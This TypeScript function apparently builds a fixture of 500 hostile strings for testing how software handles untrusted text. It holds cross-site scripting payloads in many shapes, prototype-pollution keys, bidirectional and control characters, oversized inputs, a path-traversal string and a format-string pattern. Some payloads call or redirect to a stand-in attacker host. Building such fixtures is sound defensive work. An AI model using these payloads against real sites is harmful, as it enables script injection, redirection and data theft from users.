/** Texts that files may hold and that mean harm where they are taken for more than text: 500 of them, all different. */
export function hostileTexts(): string[] {
  const calls = ['globalThis.harmed=1', 'alert(1)', 'document.title=`harmed`', "fetch('//evil.example/')"];
  const shapes = [
    (call: string) => `<script>${call}</script>`,
    (call: string) => `</script><script>${call}</script>`,
    (call: string) => `<img src=x onerror="${call}">`,
    (call: string) => `"><svg onload="${call}">`,
    (call: string) => `' onmouseover='${call}' x='`,
    (call: string) => `" autofocus onfocus="${call}" x="`,
    (call: string) => `javascript:${call}`,
    (call: string) => `<iframe srcdoc="<script>${call}</script>">`,
    (call: string) => `</style><script>${call}</script>`,
    (call: string) => `</title></textarea><script>${call}</script>`,
    (call: string) => `<math><mtext></mtext><mglyph><style><img src=x onerror=${call}>`,
    (call: string) => `{{constructor.constructor("${call}")()}}`,
    (call: string) => `\${${call}}`,
    (call: string) => `<a href="javascript:${call}">x</a>`,
    (call: string) => `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/"> ${call}`,
    (call: string) => `<![CDATA[<script>${call}</script>]]>`,
    (call: string) => `<!--${call}--!><script>${call}</script>`,
    (call: string) => `url("javascript:${call}"); } * { display: none }`,
  ];
  const texts = calls.flatMap((call) => shapes.map((shape) => shape(call)));
  texts.push(
    ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'null', 'undefined', 'NaN'],
    ...['', ' ', '\n', '\r\n', '\t', '\0', '\u0007', '\u001b[31m', '\ud800', '\udfff\ud800', '\ufffe', '\ufeff'],
    ...['\u202eevil', '\u2066a\u2069', '\u200f\u200e', '\u061c', '\u2028', '\u2029', '\u200b', 'e\u0301'.repeat(500)],
    ...[
      'x'.repeat(10_000),
      'x '.repeat(5000),
      '😀'.repeat(3000),
      '<'.repeat(10_000),
      '\n'.repeat(10_000),
      '漢'.repeat(2000),
    ],
    ...[
      '"',
      "'",
      '`',
      '\\',
      '\\u0000',
      '&lt;',
      '&#x3c;script&#x3e;',
      '%3Cscript%3E',
      '..',
      '/../../etc/passwd',
      '$&',
      '%s%n',
    ],
  );
  const marks = ['\u202e', '\0', '\ud83d', '"', "'", '<', '>', '&', '\\', '\n', '`', '=', '\u2028', '漢', '😀', 'ﷺ'];
  for (let i = 0; texts.length < 500; i++) {
    const [a, b, c] = [marks[i % 16], marks[(i * 7 + 3) % 16], shapes[i % shapes.length]];
    texts.push(`${a}${c(`globalThis.harmed=${i}`)}${b}`);
  }
  return texts;
}
